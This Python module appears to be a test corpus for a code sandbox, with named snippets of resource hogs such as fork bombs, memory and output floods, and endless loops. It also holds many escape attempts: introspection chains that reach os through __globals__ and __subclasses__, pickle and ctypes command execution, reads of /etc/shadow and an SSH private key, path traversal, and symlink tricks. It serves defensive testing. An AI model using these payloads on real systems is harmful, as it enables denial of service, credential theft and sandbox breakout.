"""Code that no evaluation survives intact: hogs that use everything up, and ways out.

The same code is tried in every engine; where a language lacks something, the attempt ends there.
A way out prints a marker once it has got hold of something, built from two halves so that the
source line in an error message does not contain it. `{home}`, `{directory}`, `{port}`, `{pid}`
and `{variable}` stand for things outside the workspace (see `escapes`); in the workspace
`link` leads to a secret file and `out` to the directory outside.
"""

REACHED = "REACHED"
"""Printed when the code holds internals of the interpreter; nothing special in CPython itself."""

STOLEN = "STOLEN"
"""Printed when the code has done something outside that no engine may allow."""

_GOT = 'print("REA" + "CHED", found)\n'

HOGS: dict[str, str] = {
    "infinite loop": "while True:\n    pass",
    "loop that catches everything": """
while True:
    try:
        while True:
            pass
    except:
        pass
""",
    "huge list": "x = [0] * 10**10\nlen(x)",
    "growing list": "x = []\nwhile True:\n    x.append('x' * 1000)",
    "string doubling": "s = 'x'\nwhile True:\n    s = s + s",
    "tower of powers": "10 ** 10 ** 10",
    "huge shift": "1 << 10**11",
    "digits of a huge number": "str(9 ** (10 ** 7))",
    "deep recursion": "def f(n):\n    return f(n + 1) + 1\n\nf(0)",
    "deep recursion that catches everything": """
def f(n):
    try:
        return f(n + 1)
    except:
        return f(n)

f(0)
""",
    "regex backtracking": "import re\nre.match(r'(a+)+$', 'a' * 40 + '!')",
    "output flood": "while True:\n    print('x' * 10_000)",
    "output flood of short lines": "while True:\n    print()",
    "error output flood": "import sys\nwhile True:\n    print('x' * 10_000, file=sys.stderr)",
    "huge value": "'x' * 50_000_000",
    "deeply nested value": "x = []\nfor i in range(200_000):\n    x = [x]\nx",
    "value that contains itself": "x = []\nx.append(x)\ny = {'x': x}\nx",
    "huge variables": "data = list(range(3_000_000))\ntext = 'x' * 10_000_000",
    "very many variables": "exec('\\n'.join(f'x{i} = {i}' for i in range(100_000)))",
    "huge error message": "raise ValueError('x' * 50_000_000)",
    "huge field width": "f'{1:>10000000000}'",
    "endless range": "sum(range(10 ** 13))",
    "endless iterator": "import itertools\nlist(itertools.count())",
    "deeply nested source": "(" * 500 + "1" + ")" * 500,
    "comparison that never ends": """
class Evil:
    def __lt__(self, other):
        while True:
            pass

sorted([Evil(), Evil()])
""",
    "repr that never ends": """
class Evil:
    def __repr__(self):
        while True:
            pass

Evil()
""",
    "sleep": "import time\ntime.sleep(1000)",
    "files in an endless loop": """
i = 0
while True:
    i += 1
    write_text('f%d.txt' % i, 'x' * 40_000)
""",
    "reads in an endless loop": """
write_text('f.txt', 'x' * 40_000)
while True:
    try:
        read_text('f.txt')
    except:
        pass
""",
    "searches in an endless loop": """
from pathlib import Path
while True:
    list(Path('.').rglob('*'))
""",
    "fork bomb": "import os\nwhile True:\n    os.fork()",
    "threads": """
import threading
def spin():
    while True:
        pass
while True:
    threading.Thread(target=spin).start()
""",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)
time.sleep(0.2)
""",
    "program that stays": "import subprocess\nsubprocess.Popen(['sleep', '1000'])\nNone",
    "signals ignored": """
import signal
for each in range(1, 32):
    try:
        signal.signal(each, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
""",
    "exit": "import os\nos._exit(0)",
    "death by signal": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "garbage in every descriptor": """
import os
for descriptor in range(3, 100):
    try:
        os.write(descriptor, b'\\xff' * 100)
    except OSError:
        pass
""",
    "exit handler that never ends": """
import atexit
def spin():
    while True:
        pass
atexit.register(spin)
""",
}
"""What uses up time, memory, processes or output, by name."""

ESCAPES: dict[str, str] = {
    "classes of everything": """
found = [each for each in ().__class__.__bases__[0].__subclasses__() if "wrap" in each.__name__]
"""
    + _GOT
    + "print(found[0].__init__.__globals__)",
    "method resolution order": "found = ''.__class__.__mro__[1].__subclasses__()[:3]\n" + _GOT,
    "globals of a function": "def f():\n    pass\nfound = f.__globals__['__builtins__']\n" + _GOT,
    "globals of a function that is given": "found = read_text.__globals__\n" + _GOT,
    "closure of a function that is given": (
        "found = read_text.__closure__[0].cell_contents\n" + _GOT
    ),
    "owner of a method that is given": "found = read_text.__self__.__class__\n" + _GOT,
    "owner of a builtin": "found = print.__self__.__import__\n" + _GOT,
    "attribute in an f-string": "found = f'{read_text.__globals__}'\n" + _GOT,
    "attribute in format": "found = '{0.__class__.__mro__}'.format(1)\n" + _GOT,
    "globals in format": "found = '{0.__globals__}'.format(read_text)\n" + _GOT,
    "attribute in format_map": "found = '{f.__globals__}'.format_map({'f': read_text})\n" + _GOT,
    "format called through a class": (
        "found = str.format('{0.__class__.__mro__[1].__subclasses__}', 1)\n" + _GOT
    ),
    "name that answers the checks itself": """
class Name(str):
    def startswith(self, *_):
        return False
found = getattr(getattr, Name("__class__"))
"""
    + _GOT,
    "path of names that answer the checks themselves": """
import operator
class Name(str):
    def startswith(self, *_):
        return False
    def split(self, *_):
        return [self]
found = operator.attrgetter(Name("__class__"))(len)
"""
    + _GOT,
    "format of a subclass": """
class Text(str):
    pass
found = Text.format("{0.__class__.__mro__}", 1)
"""
    + _GOT,
    "format above a subclass": """
class Text(str):
    def show(self, value):
        return super().format(value)
found = Text("{0.__class__.__mro__}").show(1)
"""
    + _GOT,
    "attributes as fields of a tree": """
import ast
class Node:
    _fields = ("__mro__",)
found = dict(ast.iter_fields(Node))["__mro__"]
"""
    + _GOT,
    "attributes as fields of a dataclass": """
import dataclasses
@dataclasses.dataclass(init=False, repr=False, eq=False)
class Data:
    __getattribute__: int
found = dataclasses.asdict(Data())["__getattribute__"]
"""
    + _GOT,
    "source in the name of a field": """
import dataclasses
@dataclasses.dataclass(init=False)
class Data:
    x = None
    __annotations__ = {"x or [].__class__.__base__": int}
found = {0: repr(Data())}["<class 'object'>" not in repr(Data())]
"""
    + _GOT,
    "special methods as members of an enumeration": """
import copy, enum
members = {"__copy__": None, "__deepcopy__": None, "A": 1}
members["__reduce_ex__"] = lambda self, _: (list, ([5],))
found = copy.copy(enum.Enum("E", members).A)
"""
    + _GOT,
    "frame of a generator": "g = (x for x in [1])\nfound = g.gi_frame.f_globals\n" + _GOT,
    "frames of a traceback": """
try:
    1 / 0
except Exception as error:
    frame = error.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    found = frame.f_globals
    """
    + _GOT,
    "context of an error in a file function": """
try:
    read_text("no/such/file")
except Exception as error:
    found = error.__traceback__.tb_next.tb_frame
    """
    + _GOT,
    "type": "found = type.__subclasses__(type('X', (object,), {}).__base__)\n" + _GOT,
    "getattr with a built name": """
cls = getattr((), "__cl" + "ass__")
found = getattr(cls, "__ba" + "ses__")
"""
    + _GOT,
    "builtins": "found = __builtins__['__import__']('os')\n" + _GOT + "print(found.environ)",
    "__import__": "found = __import__('os').environ\n" + _GOT,
    "globals()": "found = globals()['__builtins__']\n" + _GOT,
    "exec": "exec('import os; found = os.popen')\n" + _GOT,
    "eval": "found = eval('__import__(\"os\").popen')\n" + _GOT,
    "decorator": """
def evil(function):
    return function.__globals__

@evil
def found():
    pass

found["__builtins__"]
"""
    + _GOT,
    "__reduce__": "found = (1).__reduce_ex__(2)[0].__globals__\n" + _GOT,
    "code of a lambda": """
f = lambda: 0
f.__code__ = (lambda: 1).__code__.replace(co_consts=(7, 7))
found = f()
"""
    + _GOT,
    "breakpoint": "breakpoint()\nfound = 1\n" + _GOT,
    "help": "help(abs)\nfound = 1\n" + _GOT,
    "repr of what is given": "[read_text, write_text, print, len, str]",
    "variables of the interpreter": "found = vars()\nprint(found)\ndir()",
    "modules": "import sys\nfound = sys.modules['os']\n" + _GOT,
    "attrgetter": ("import operator\nfound = operator.attrgetter('__class__.__mro__')(1)\n" + _GOT),
    "attrgetter as a key": """
from operator import attrgetter
seen = []
sorted([read_text], key=lambda each: seen.append(attrgetter("__globals__")(each)) or 0)
found = seen[0]
"""
    + _GOT,
    "methodcaller": (
        "import operator\nfound = operator.methodcaller('__subclasses__')(object)[:3]\n" + _GOT
    ),
    "format through methodcaller": (
        "from operator import methodcaller\n"
        "found = methodcaller('format', read_text)('{0.__globals__}')\n" + _GOT
    ),
    "format through map": (
        "found = list(map(str.format, ['{0.__class__.__mro__}'], [1]))[0]\n" + _GOT
    ),
    "format through a bound method": (
        "show = '{0.__class__.__mro__}'.format\nfound = show(1)\n" + _GOT
    ),
    "Formatter": (
        "import string\nfound = string.Formatter().format('{0.__class__.__mro__}', 1)\n" + _GOT
    ),
    "field of a Formatter": (
        "import string\nfound = string.Formatter().get_field('0.__class__', (1,), {})\n" + _GOT
    ),
    "partial of getattr": """
from functools import partial, reduce
found = reduce(getattr, ["__class__", "__mro__"], 1)
"""
    + _GOT,
    "function of a partial": (
        "from functools import partial\nfound = partial(read_text).func.__globals__\n" + _GOT
    ),
    "annotations that are evaluated": """
import typing

class Evil:
    x: "__import__('os').popen"

found = typing.get_type_hints(Evil)
"""
    + _GOT,
    "fields of a data class that are evaluated": """
import dataclasses
found = dataclasses.make_dataclass("X", [("x", "__import__('os')", 1)], namespace={}).__init__
found = found.__globals__
"""
    + _GOT,
    "modules of a module": """
import collections, random, enum, dataclasses, typing, json, csv
for module in (collections, random, enum, dataclasses, typing, json, csv):
    for name in ("_sys", "_os", "sys", "os", "__builtins__", "__loader__", "__spec__"):
        found = getattr(module, name, None)
        if found is not None:
            break
    if found is not None:
        break
found.modules if hasattr(found, "modules") else found.__class__
"""
    + _GOT,
    "open of a module": """
import io
found = io.open("/etc/passwd").read()
"""
    + _GOT,
    "file of a module": "import io\nfound = io.FileIO('/etc/passwd').read()\n" + _GOT,
    "frame of the interpreter": "import sys\nfound = sys._getframe(0).f_globals\n" + _GOT,
    "attributes in a pattern": """
match 1:
    case int(__class__=found):
        found = found.__mro__
        """
    + _GOT,
    "attribute of an imported name": "from collections import abc\nfound = abc.__builtins__\n"
    + _GOT,
    "import of a private name": "from collections import _sys as found\nfound.modules\n" + _GOT,
    "import in a package": "import os.path as path\nfound = path.os.environ\n" + _GOT,
    "importlib": "import importlib\nfound = importlib.import_module('os').environ\n" + _GOT,
    "attribute as a loop variable": """
def f():
    pass

def g():
    return 7

for f.__code__ in [g.__code__]:
    pass
found = f()
"""
    + _GOT,
    "setattr": """
def f():
    pass

setattr(f, "__code__", getattr(lambda: 7, "__code__"))
found = f()
"""
    + _GOT,
    "metaclass": """
class Meta(type):
    def __call__(cls, *args):
        return cls.__mro__

class Evil(metaclass=Meta):
    pass

found = Evil()[-1].__subclasses__()[:3]
"""
    + _GOT,
    "class of an own class": """
class Evil:
    def reach(self):
        return self.__class__.__mro__[-1].__subclasses__()[:3]

found = Evil().reach()
"""
    + _GOT,
    "super": """
class Evil:
    def reach(self):
        return super().__getattribute__("__class__").__base__.__subclasses__()[:3]

found = Evil().reach()
"""
    + _GOT,
    "object that copies as another": """
import copy, collections

class Evil:
    def __reduce_ex__(self, version):
        return (collections.namedtuple, ("X", "y"))

found = copy.copy(Evil()).__new__.__globals__
"""
    + _GOT,
    "writer of print": """
class Writer:
    def write(self, text):
        raise ValueError(text.__class__.__mro__)

try:
    print("x", file=Writer())
except ValueError as error:
    found = error.args
    """
    + _GOT,
    "error of an error": """
try:
    try:
        read_text("no/such/file")
    except OSError as error:
        raise ValueError("x") from error
except ValueError as error:
    found = error.__cause__.__traceback__.tb_frame
    """
    + _GOT,
    "XML file": (
        "import xml.etree.ElementTree as ET\nfound = ET.parse('{home}/id_ed25519').getroot()\n"
        + _GOT
    ),
    "XML file written": (
        "import xml.etree.ElementTree as ET\n"
        "ET.ElementTree(ET.Element('x')).write('{directory}/planted')\n"
    ),
    "configuration file": """
import configparser
parser = configparser.ConfigParser(allow_no_value=True, delimiters=("\\0",))
found = parser.read(["{home}/id_ed25519", "/etc/passwd"])[0]
"""
    + _GOT,
    "redirected output": """
import contextlib, sys

class Writer:
    def write(self, text):
        self.frame = sys._getframe(1)

writer = Writer()
with contextlib.redirect_stdout(writer):
    print("x")
found = writer.frame.f_globals
"""
    + _GOT,
    "visitor that builds names": """
import ast

class Visitor(ast.NodeVisitor):
    pass

found = Visitor().visit.__func__.__globals__
"""
    + _GOT,
    "generator behind a context manager": """
import contextlib

@contextlib.contextmanager
def f():
    yield 1

found = f().gen.gi_frame.f_back or f.__wrapped__.__globals__
"""
    + _GOT,
    "field of a data class": """
import dataclasses

@dataclasses.dataclass
class A:
    x: int = 1

found = dataclasses.fields(A)[0].__class__.__init__.__globals__
"""
    + _GOT,
    "maker of a named tuple": """
from collections import namedtuple
found = namedtuple("P", "x")._make.__func__.__globals__
"""
    + _GOT,
    "path of a link": """
import os
found = os.readlink("out") + os.getcwd() + os.path.realpath("out") + os.path.expanduser("~")
print(found)
""",
    "coroutine": """
async def f():
    pass

c = f()
found = c.cr_frame.f_builtins
c.close()
"""
    + _GOT,
    "program": "import os\nos.system('touch {directory}/planted')",
    "program in another way": (
        "import subprocess\nsubprocess.run(['touch', '{directory}/planted'])"
    ),
    "pickle": "import pickle\n"
    "pickle.loads(b\"cos\\nsystem\\n(S'touch {directory}/planted'\\ntR.\")",
    "C library": "import ctypes\nctypes.CDLL(None).system(b'touch {directory}/planted')",
    "environment of the host": "import os\nprint(dict(os.environ), os.getenv('{variable}'))",
    "environment in /proc": """
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/{pid}/environ"):
    try:
        print(open(path).read())
    except Exception as error:
        print(error)
    try:
        print(read_text(path))
    except Exception as error:
        print(error)
""",
    "signal to another process": 'import os\nos.kill({pid}, 0)\nprint("STO" + "LEN")',
    "socket": """
import socket
with socket.create_connection(("127.0.0.1", {port}), 2) as client:
    client.send(b"taken")
""",
    "web request": """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=2)
""",
    "read a system file": """
for path in ("/etc/passwd", "/etc/shadow", "../../../../../../etc/shadow"):
    try:
        print("read", open(path).read())
    except Exception as error:
        print(error)
    try:
        print("read", read_text(path))
    except Exception as error:
        print(error)
""",
    "read a file outside": "print(open('{home}/id_ed25519').read())",
    "read a file outside with read_text": "print(read_text('{home}/id_ed25519'))",
    "read a file outside through ..": "print(read_text('../home/id_ed25519'))",
    "read a file outside with pathlib": (
        "from pathlib import Path\nprint(Path('../home/id_ed25519').read_text())"
    ),
    "open without the replaced function": """
import io, os, posix
for read in (
    lambda: io.FileIO("{home}/id_ed25519").read(),
    lambda: os.read(posix.open("{home}/id_ed25519", 0), 99),
    lambda: os.read(os.open("{home}/id_ed25519", os.O_RDONLY), 99),
    lambda: open.__closure__[0].cell_contents("{home}/id_ed25519").read(),
):
    try:
        print(read())
    except OSError as error:
        print(error)
""",
    "system calls without Python": """
import ctypes
call = ctypes.CDLL(None, use_errno=True).syscall
descriptor = max(call(257, -100, b"{home}/id_ed25519", 0), call(2, b"{home}/id_ed25519", 0))
buffer = ctypes.create_string_buffer(99)
call(0, descriptor, buffer, 99)
print(descriptor, buffer.value)
if call(41, 2, 1, 0) >= 0 or call(57) >= 0 or call(101, 16, {pid}, 0, 0) >= 0:
    print("STO" + "LEN")
""",
    "file of a library in C": """
import sqlite3
sqlite3.connect("{directory}/planted").execute("create table t (x)")
""",
    "source of a module": """
import importlib.machinery, linecache, tokenize
print(linecache.getlines("{home}/id_ed25519"))
for read in (tokenize.open, importlib.machinery.SourceFileLoader("x", "").get_data):
    try:
        print(read("{home}/id_ed25519"))
    except OSError as error:
        print(error)
""",
    "thread": """
import io, threading
def read():
    print(io.FileIO("{home}/id_ed25519").read())
thread = threading.Thread(target=read)
thread.start()
thread.join()
""",
    "program without a shell": """
import _posixsubprocess, os, subprocess
for run in (
    lambda: subprocess.run(["touch", "{directory}/planted"]),
    lambda: os.posix_spawn("/usr/bin/touch", ["touch", "{directory}/planted"], {}),
    lambda: os.execv("/usr/bin/touch", ["touch", "{directory}/planted"]),
    os.fork,
):
    try:
        run()
    except OSError as error:
        print(error)
""",
    "calls that the code sends itself": """
import base64, json, os, struct
def ask(function, *arguments):
    data = json.dumps({"kind": "call", "function": function, "arguments": arguments}).encode()
    os.write(3, struct.pack(">I", len(data)) + data)
    reply = json.loads(os.read(3, 65536)[4:])
    value = reply.get("value")
    return base64.b64decode(value) if function in ("zone", "read_bytes") and value else reply
print(ask("read_text", "../home/id_ed25519"), ask("read_bytes", "link"))
print(ask("write_text", "../planted", "x", "overwrite"), ask("list", ".."))
print(ask("module", "../../home/id_ed25519"), ask("module", "os./../../home/id_ed25519"))
print(ask("zone", "{home}/id_ed25519"), ask("zone", "../../../{home}/id_ed25519"))
print(ask("__init__", "x"), ask("_fs", "x"))
""",
    "outcome that the code sends itself": """
import json, os, struct
outcome = {"value": "x", "globals": {"x": "1"}, "writes": [["../planted", "x", "create"]]}
data = json.dumps({"kind": "done", "outcome": outcome, "pid": 1}).encode()
os.write(3, struct.pack(">I", len(data)) + data)
""",
    "limits raised": """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(kind, (2**40, 2**40))
        print("STO" + "LEN")
    except (OSError, ValueError) as error:
        print(error)
""",
    "read through a link": "print(read_text('link'))",
    "read through a link with open": "print(open('out/home/id_ed25519').read())",
    "read through a new link": (
        "import os\nos.symlink('{home}/id_ed25519', 'mine')\nprint(open('mine').read())"
    ),
    "resolve a link": "from pathlib import Path\nprint(Path('link').resolve(), Path.cwd())",
    "write through ..": "write_text('../planted', 'x')",
    "write through .. with open": "open('../planted', 'w').write('x')",
    "write to an absolute path": "write_text('{directory}/planted', 'x')",
    "write to an absolute path with open": "open('{directory}/planted', 'w').write('x')",
    "write through a link": "write_text('out/planted', 'x')",
    "write through a link with open": "open('out/planted', 'w').write('x')",
    "make a directory outside": "from pathlib import Path\nPath('../planted').mkdir()",
    "overwrite a file outside": "write_text('link', 'x')\nopen('link', 'w').write('x')",
}
"""What would get the code out of its interpreter or out of the workspace, by name."""
